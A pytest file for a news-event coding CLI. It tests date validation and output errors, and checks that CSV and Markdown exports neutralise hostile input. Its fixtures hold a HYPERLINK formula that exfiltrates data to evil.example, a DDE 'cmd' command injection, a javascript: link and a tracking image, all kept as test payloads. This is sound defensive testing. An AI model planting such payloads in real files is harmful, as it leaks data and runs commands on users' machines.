"""Options and outputs under hostile use: checked dates, unwritable files, and news text that
tries to become a spreadsheet formula or a live Markdown link."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from click.testing import CliRunner

from detente.cli import cli
from detente.models import Actor, Article, CodedDocument, Event
from detente.store import Store

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
LINK = "[click here](javascript:alert(1))"
IMAGE = "![pixel](http://evil.example/track.png)"


def _event(doc_id: str, i: int, evidence: str, src: str, tgt: str, plover: str, quad: str,
           intensity: float, day: str) -> Event:
    return Event(
        doc_id=doc_id, sentence_index=i, evidence=evidence, char_start=0, char_end=len(evidence),
        source=Actor(text=src, code=f"{src}GOV", country=src, sector="GOV"),
        target=Actor(text=tgt, code=f"{tgt}GOV", country=tgt, sector="GOV"),
        plover=plover, cameo="040" if quad == "verbal_coop" else "190", quad=quad,
        intensity=intensity, goldstein=intensity * 10, date=day, date_precision="day",
        event_id=f"{doc_id}-{i}", rule="test",
    )


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """A store whose news text carries formulas, links and images."""
    db = tmp_path_factory.mktemp("hostile") / "h.duckdb"
    docs = []
    for n, (title, evidence) in enumerate([
        (FORMULA, f"+cmd|' /C calc'!A0 Turkey met Russia {LINK}"),
        (f"Talks {IMAGE}", f"@SUM(1+1) Russia attacked Ukraine {IMAGE}"),
        ("-2+3 plain title", "Turkey and Russia held talks."),
    ]):
        doc_id = f"d{n}"
        day = f"2021-0{n + 1}-10"
        events = [
            _event(doc_id, 0, evidence, "TUR", "RUS", "CONSULT", "verbal_coop", 0.4, day),
            _event(doc_id, 1, evidence, "RUS", "UKR", "ASSAULT", "material_conflict", -1.0, day),
            _event(doc_id, 2, evidence, "TUR", "UKR", "CONSULT", "verbal_coop", 0.4, day),
        ]
        art = Article(doc_id=doc_id, text=evidence, title=title, url="http://news.example/a",
                      published=date(2021, n + 1, 10))
        docs.append(CodedDocument(article=art, events=events, n_sentences=1))
    with Store(db) as store:
        store.add_many(docs)
    return db


def invoke(*args: str):
    result = CliRunner().invoke(cli, list(args))
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit), \
        result.exception
    return result


@pytest.mark.parametrize("command", [
    ["events"], ["dyads"], ["blocs"], ["relations", "TUR", "RUS"], ["trends"],
    ["brief", "TUR", "RUS", "--out", "{tmp}/b.html"],
])
@pytest.mark.parametrize("option, value", [
    ("--since", "banana"), ("--until", "2021-13"), ("--since", "2021-3"), ("--until", "21"),
])
def test_every_since_until_is_checked(hostile_store, tmp_path, command, option, value):
    args = [a.replace("{tmp}", str(tmp_path)) for a in command]
    result = invoke(*args, "--db", str(hostile_store), option, value)
    assert result.exit_code == 2
    assert "expected a year, month or day like 2021, 2021-03 or 2021-03-20" in result.output
    assert value in result.output


def test_good_periods_still_filter(hostile_store):
    result = invoke("events", "--db", str(hostile_store), "--since", "2021-02", "--until",
                    "2021", "--json")
    assert result.exit_code == 0
    assert '"d0"' not in result.output and '"d1"' in result.output


def test_an_output_that_cannot_be_written_is_one_line(hostile_store, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("x", encoding="utf-8")
    (tmp_path / "in.txt").write_text("Turkey and Russia held talks in Ankara.", encoding="utf-8")
    for args in (
        ["code", str(tmp_path / "in.txt"), "--db", str(tmp_path / "s.duckdb"),
         "--jsonl", str(blocker / "out.jsonl")],
        ["brief", "TUR", "RUS", "--db", str(hostile_store), "--out", str(blocker / "b.html")],
        ["brief", "TUR", "RUS", "--db", str(hostile_store), "--out", str(blocker / "b.md")],
    ):
        result = invoke(*args)
        assert result.exit_code != 0
        lines = [ln for ln in result.output.splitlines() if ln.strip()]
        assert len(lines) == 1 and "cannot write" in lines[0] and str(blocker) in lines[0], lines


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("command", [["events", "--csv"], ["dyads", "--csv"]])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile_store, command):
    result = invoke(*command, "--db", str(hostile_store))
    assert result.exit_code == 0
    cells = _csv_cells(result.output)
    assert any("calc" in c or "SUM(" in c for c in cells)  # the text is kept, made inert
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # a negative number stays a number


def test_csv_numbers_stay_numbers(hostile_store):
    rows = list(csv.DictReader(io.StringIO(invoke("events", "--csv", "--db",
                                                  str(hostile_store)).output)))
    assert {r["goldstein"] for r in rows} >= {"-10.0", "4.0"}
    assert any(r["title"] == "'-2+3 plain title" for r in rows)


def test_markdown_brief_escapes_links_and_images(hostile_store, tmp_path):
    out = tmp_path / "b.md"
    result = invoke("brief", "TUR", "RUS", "UKR", "--db", str(hostile_store), "--out", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "javascript" in text and "evil.example" in text  # the news text is shown ...
    assert "](javascript" not in text and "![pixel]" not in text  # ... but never live
    # every link left is one detente made: to the document's http(s) url or a chart beside it
    targets = re.findall(r"(?<!\\)\]\((<?[^)]*)\)", text)
    assert targets and all(t.startswith(("<http://news.example", "b_")) for t in targets), targets
    html_out = tmp_path / "b.html"
    invoke("brief", "TUR", "RUS", "UKR", "--db", str(hostile_store), "--out", str(html_out))
    assert "javascript:alert" not in re.sub(r">[^<]*<", "><", html_out.read_text())


def test_a_file_that_is_no_gold_set_is_one_line(tmp_path):
    path = tmp_path / "notes.jsonl"
    path.write_text("these are my notes\n", encoding="utf-8")
    result = invoke("eval", str(path))
    assert result.exit_code == 2
    assert "notes.jsonl:1" in result.output and "internal error" not in result.output
